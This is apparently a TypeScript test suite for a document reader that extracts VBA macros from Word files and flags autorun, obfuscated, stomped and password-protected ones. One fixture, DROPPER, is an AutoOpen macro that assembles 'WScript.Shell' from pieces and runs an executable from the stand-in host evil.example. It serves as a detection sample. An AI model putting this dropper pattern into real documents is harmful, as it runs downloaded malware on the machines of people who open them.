import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { compoundFile } from '../../support/compound-file.ts';
import { docx, MAIN } from '../../support/office-files.ts';
import { documentReading, type ReadDocument } from '../../support/reading-documents.ts';
import { vbaFile, vbaProject } from '../../support/vba.ts';

const read = await documentReading();

const HARMLESS = 'Sub Total()\r\n  Range("A1").Value = 1 + 2\r\nEnd Sub\r\n';
const DROPPER = [
  'Sub AutoOpen()',
  '  Dim s As String',
  '  s = "WScr" & "ipt." & Chr(83) & "hell"',
  '  CreateObject(s).Run "http://evil.example/" & "a.exe"',
  'End Sub',
].join('\r\n');

const textOf = ({ parts }: ReadDocument, name: string): string | null | undefined =>
  parts.find((part) => part.name === name)?.text();

describe('macros of VBA', () => {
  it('are read from a document of Word, their source a part', async () => {
    const project = vbaProject({ modules: [{ name: 'Module1', source: HARMLESS }] });
    const document = await read(compoundFile({ Macros: project }));
    assert.deepEqual(document.flags, ['active:macro']);
    assert.match(textOf(document, 'Module1.bas') ?? '', /^Attribute VB_Name = "Module1"\r\nSub Total/);
    assert.equal(document.parts.find(({ name }) => name === 'Module1.bas')?.origin, 'extracted');
  });

  it('are found wherever their streams stand', async () => {
    const { VBA, PROJECT } = vbaProject({ modules: [{ name: 'Module1', source: HARMLESS }] });
    const { flags } = await read(compoundFile({ a: { b: { anything: VBA as never, PROJECT: PROJECT as never } } }));
    assert.deepEqual(flags, ['active:macro']);
  });

  it('are classified: what runs by itself, and starts or fetches something', async () => {
    const plain = await read(
      vbaFile({ name: 'ThisDocument', source: 'Private Sub Document_Open()\r\n  MsgBox "x"\r\nEnd Sub' }),
    );
    assert.deepEqual(plain.flags, ['active:macro', 'active:macro-autorun']);
    const dropper = await read(vbaFile({ name: 'Module1', source: DROPPER }));
    assert.deepEqual(dropper.flags, ['active:macro', 'active:macro-autorun', 'active:macro-suspicious']);
    assert.equal(dropper.root.detectedType, 'application/vnd.ms-office.vbaproject');
  });

  it('tell the strings that they put together, and the addresses', async () => {
    const document = await read(vbaFile({ name: 'Module1', source: DROPPER }));
    assert.equal(textOf(document, 'joined-strings.txt'), 'WScript.Shell\nhttp://evil.example/a.exe');
    assert.deepEqual(document.links, ['http://evil.example/', 'http://evil.example/a.exe']);
  });

  it('are read from the project of a document in XML', async () => {
    const content = vbaFile({ name: 'Module1', source: DROPPER });
    const { parts } = await read(docx('', { parts: { 'word/vbaProject.bin': { content } }, main: MAIN.docm }));
    const project = parts.find(({ name }) => name === 'word/vbaProject.bin');
    assert.ok(project?.flags.some(({ name }) => name === 'macro-suspicious'));
  });

  it('are no macros where nobody has written any', async () => {
    const empty = 'Attribute VB_Base = "0{00020906-0000-0000-C000-000000000046}"\r\nOption Explicit\r\n\r\n';
    const { flags } = await read(vbaFile({ name: 'ThisDocument', source: empty, document: true }));
    assert.deepEqual(flags, []);
  });

  it('are read though the project lies about where they begin', async () => {
    const compiled = Buffer.alloc(300, 'compiled');
    for (const offset of [0, 7, 299, 0xffffffff]) {
      const document = await read(vbaFile({ name: 'Module1', source: HARMLESS, compiled, offset }));
      assert.match(textOf(document, 'Module1.bas') ?? '', /Range/);
    }
  });

  it('are read though the project does not tell of them, or cannot be read', async () => {
    const { VBA } = vbaProject({ modules: [{ name: 'Module1', source: DROPPER }] });
    const document = await read(compoundFile({ VBA: { ...(VBA as object), dir: 'nothing', Silent: 'x' } }));
    assert.ok(document.flags.includes('active:macro-suspicious'));
    assert.match(textOf(document, 'Module1.bas') ?? '', /AutoOpen/);
  });

  it('are found where they are not packed', async () => {
    const long = Array.from({ length: 4000 }, (_, i) => `  x${i} = ${i}`).join('\r\n');
    const { VBA } = vbaProject({ modules: [{ name: 'Module1', source: `Sub AutoOpen()\r\n${long}\r\nEnd Sub` }] });
    const document = await read(compoundFile({ VBA: { ...(VBA as object), dir: 'nothing' } }));
    assert.match(textOf(document, 'Module1.bas') ?? '', /x3999 = 3999/);
  });

  it('are told of where their source says less than their compiled form', async () => {
    const project = vbaProject({
      modules: [{ name: 'ThisDocument', source: '', document: true }],
      names: ['Document_Open'],
    });
    const { flags } = await read(compoundFile({ Macros: project }));
    assert.deepEqual(flags, ['active:macro', 'active:macro-autorun', 'active:macro-stomped']);
  });

  it('are read in the charset of their project', async () => {
    const source = Buffer.from('Sub X()\r\n  y = "\xef\xf0\xe8"\r\nEnd Sub', 'latin1').toString('latin1');
    const project = vbaProject({ modules: [{ name: 'Module1', source }], codePage: 1251 });
    assert.match(textOf(await read(compoundFile({ Macros: project })), 'Module1.bas') ?? '', /"при"/);
  });

  it('are read behind a password', async () => {
    const project = vbaProject({ modules: [{ name: 'Module1', source: HARMLESS }], password: true });
    const { flags } = await read(compoundFile({ Macros: project }));
    assert.deepEqual(flags, ['active:macro', 'note:macro-protected']);
  });
});
